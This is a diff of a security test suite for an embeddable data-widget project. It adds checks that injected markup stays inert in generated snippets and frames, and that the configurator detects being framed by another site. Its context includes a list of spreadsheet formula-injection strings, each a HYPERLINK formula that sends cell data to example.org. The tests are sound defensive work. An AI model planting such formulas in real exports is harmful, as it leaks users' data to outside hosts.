@@ -1,4 +1,9 @@
-import { expect } from '@open-wc/testing';
+import { expect, waitUntil } from '@open-wc/testing';
+import { isFramedByStrangers } from '../../src/app/configurator/framing.js';
+import { documentIn, frameParameters } from '../../src/app/embed/parameters.js';
+import { WIDGETS } from '../../src/snippet/content.js';
+import { frame } from '../../src/snippet/frame.js';
+import { snippet } from '../../src/snippet/snippet.js';
 import { AUTOLOAD, WHOLE, drawnIn, opened, speaks, tagged, widgetIn } from '../support/framed.js';
 import { all, drawn, made, place, toldBy } from '../support/page.js';
 import { cellsOf, downloaded } from '../support/downloads.js';
@@ -17,7 +22,7 @@ const VECTORS = [
 const FORMULAS = ['=', '+', '-', '@', '\t=', '\r=', ' =', '\uFF1D', '\n+', 'x;=', 'x\t@', 'x\n-', 'x"; =', '","=', '\u0000='].map((start) => `${start}HYPERLINK("https://example.org/?"&A1)`);
 
 /** A document in which every text is the same. */
-const filled = (text: string): object => ({
+const filled = (text: string): Readonly<Record<string, unknown>> => ({
   version: '1', title: text, asOf: text, source: { text, url: text }, notes: [text], country: text,
   population: { title: text, note: text, groups: [{ label: text, value: 1, note: text, asOf: text, source: text, partOf: text, previous: { value: 1, asOf: text } }, { group: text, value: 2 }] },
   funding: { title: text, currency: text, required: { label: text, value: 10 }, received: 4, parts: [{ label: text, value: 1 }] },
@@ -26,6 +31,9 @@ const filled = (text: string): object => ({
   keyFigures: { items: [{ value: 1, text, unit: text }] },
   donors: { thanks: text, closing: text, items: [{ label: text, amount: 1 }, { country: text }] },
 });
+const parsed = (html: string): Document => new DOMParser().parseFromString(html, 'text/html');
+/** Which elements with which attributes there are, in order. */
+const shapeOf = (page: Document): string[] => Array.from(page.body.querySelectorAll('*'), ({ localName, attributes }) => `${localName} ${Array.from(attributes, ({ name }) => name).join()}`);
 const elements = (root: Iterable<Element>): string[] => [...new Set(Array.from(root, ({ localName }) => localName))].sort();
 
 export const rows = faults('F. Security inputs', [
@@ -133,7 +141,25 @@ export const rows = faults('F. Security inputs', [
       expect([one.height, told.errors]).to.deep.equal([height, []]);
     },
   } },
-  { id: 113, title: 'Markup in the snippet of the configurator', notApplicable: 'comes with the configurator' },
+  { id: 113, title: 'Markup in the snippet of the configurator', checks: {
+    'is text in every form: no element and no attribute of theirs, and the same figures come out of it': async () => {
+      for (const widget of WIDGETS) {
+        const known = shapeOf(parsed(await snippet(filled('Calm'), { widget, lang: 'en', base: 'https://example.org/', heading: 'Calm' })));
+        for (const vector of VECTORS) {
+          const given = filled(vector);
+          const page = parsed(await snippet(given, { widget, lang: 'en', base: 'https://example.org/', heading: vector }));
+          expect(shapeOf(page), vector).to.deep.equal(known);
+          const tag = page.querySelector(`factlet-${widget}`)!;
+          expect(tag.getAttribute('heading')).to.equal(vector);
+          expect(given).to.deep.include(JSON.parse(tag.querySelector('[type="application/json"]')!.textContent!));
+          const frames = parsed(await frame(given, { widget, lang: 'en', base: 'https://example.org/', heading: vector }));
+          expect(elements(frames.body.querySelectorAll('*'))).to.deep.equal(['a', 'iframe', 'p', 'script']);
+          const { search, hash } = new URL(frames.querySelector('iframe')!.src);
+          expect([frameParameters(search)?.attributes['heading'], await documentIn(hash)]).to.deep.equal([vector, JSON.stringify(JSON.parse(tag.querySelector('[type="application/json"]')!.textContent!))]);
+        }
+      }
+    },
+  } },
   { id: 114, title: 'Elements of the page whose names are those of globals', checks: {
     'are not taken for them': async () => {
       for (const script of [AUTOLOAD, WHOLE]) {
@@ -151,7 +177,16 @@ export const rows = faults('F. Security inputs', [
         expect(seen(await drawnIn(page, 'population-counters'))).to.include('8,087');
       }])),
   } },
-  { id: 115, title: 'The configurator in somebody\'s frame', notApplicable: 'comes with the configurator' },
+  { id: 115, title: 'The configurator in somebody\'s frame', checks: {
+    'shows nothing that could be pressed': async () => {
+      const page = document.createElement('iframe');
+      page.src = '/dist/configurator/index.html';
+      (await place()).append(page);
+      await waitUntil(() => page.contentDocument?.querySelector('configurator-page button'), 'in a frame of its own site it works', { timeout: 20_000 });
+      expect(isFramedByStrangers({ top: { get location(): Location { throw new DOMException('Blocked', 'SecurityError'); } } as Window, self, location })).to.equal(true);
+      page.remove();
+    },
+  } },
 ]);
 
 const clobbering = (names: readonly string[]): string =>
